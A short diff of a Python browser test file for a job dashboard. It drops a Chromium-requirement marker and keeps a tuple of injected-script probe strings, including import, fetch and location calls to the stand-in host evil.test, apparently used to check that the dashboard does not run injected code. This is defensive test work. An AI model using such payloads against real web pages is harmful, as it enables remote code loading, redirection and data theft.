@@ -5,10 +5,9 @@ from pathlib import Path
 from typing import Any
 
 from offload import Client
-from tests.browser.chromium import dashboard, needs_chromium
+from tests.browser.chromium import dashboard
 from tests.servers import Server
 
-pytestmark = needs_chromium
 JOBS = Path(__file__).with_name("jobs_for_pages.py")
 MARK = "globalThis.broken=1"
 CALLS = ("alert(1)", MARK, "import('//evil.test/x.js')", "fetch('//evil.test/')", "location='//evil.test/'")
